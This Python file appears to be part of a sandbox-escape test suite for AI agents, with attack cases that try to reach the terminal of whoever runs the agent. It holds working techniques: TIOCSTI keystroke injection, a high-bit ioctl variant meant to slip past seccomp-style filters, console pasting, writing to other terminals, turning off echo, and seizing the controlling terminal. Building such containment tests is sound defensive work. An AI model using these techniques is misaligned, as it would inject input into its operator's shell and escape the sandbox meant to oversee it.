"""The terminal of whoever runs the agent: typing into it, writing to it, changing it."""

from __future__ import annotations

import fcntl
import os
import signal
import struct
import termios

from escape.case import Place, attack

TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x541D
NO_CONTROL = "it would disturb the console of the machine"


def ways(p: Place) -> list[int]:
    """Every descriptor by which a terminal might be reached."""
    found = [0, 1, 2]
    for path in ("/dev/tty", p.tty, "/dev/console"):
        for flags in (os.O_RDWR, os.O_RDONLY):
            try:
                found.append(os.open(path, flags | os.O_NOCTTY | os.O_NONBLOCK))
                break
            except OSError:
                pass
    return found


@attack(arena="terminal")
def types_into_the_terminal_of_its_caller(p: Place) -> None:
    for fd in ways(p):
        try:
            for character in f"{p.mark}\n".encode():
                fcntl.ioctl(fd, TIOCSTI, bytes([character]))
        except OSError:
            pass


@attack(arena="terminal")
def types_with_high_bits_set_in_the_request(p: Place) -> None:
    """The kernel looks at 32 bits of the request, a filter may compare 64."""
    from escape.kernel import buffer, call

    for fd in ways(p):
        try:
            for character in f"{p.mark}\n".encode():
                call("ioctl", fd, (1 << 32) | TIOCSTI, buffer(bytes([character])))
        except OSError:
            pass


@attack(arena="terminal", no_control=NO_CONTROL)
def pastes_into_the_console(p: Place) -> None:
    if not p.bare:
        for fd in ways(p):
            for request, argument in ((TIOCLINUX, b"\x03"), (TIOCCONS, b"")):
                try:
                    fcntl.ioctl(fd, request, argument)
                    p.reached(hex(request))
                except OSError:
                    pass


@attack(arena="terminal")
def writes_to_the_terminal_by_its_path(p: Place) -> None:
    with open(p.tty, "w") as file:
        file.write(p.mark)


@attack(arena="terminal")
def writes_to_another_terminal_by_its_path(p: Place) -> None:
    with open(p.other_tty, "w") as file:
        file.write(p.mark)


@attack(arena="agent's terminal")
def writes_to_whatever_terminal_controls_it(p: Place) -> None:
    for fd in ways(p)[3:]:
        try:
            os.write(fd, p.mark.encode())
        except OSError:
            pass


@attack(arena="agent's terminal")
def resizes_the_terminal_of_its_caller(p: Place) -> None:
    for fd in ways(p):
        try:
            fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 7, 77, 0, 0))
        except OSError:
            pass


@attack(arena="agent's terminal")
def silences_the_terminal_of_its_caller(p: Place) -> None:
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)  # from the background, too
    for fd in ways(p):
        try:
            settings = termios.tcgetattr(fd)
            settings[3] &= ~termios.ECHO
            termios.tcsetattr(fd, termios.TCSANOW, settings)
        except (OSError, termios.error):
            pass


@attack(arena="agent's terminal", no_control="it would take the terminal from the one that judges")
def steals_the_terminal_of_its_caller(p: Place) -> None:
    if not p.bare:
        os.setsid()
        for fd in ways(p):
            try:
                fcntl.ioctl(fd, TIOCSCTTY, 1)
                p.reached()
            except OSError:
                pass
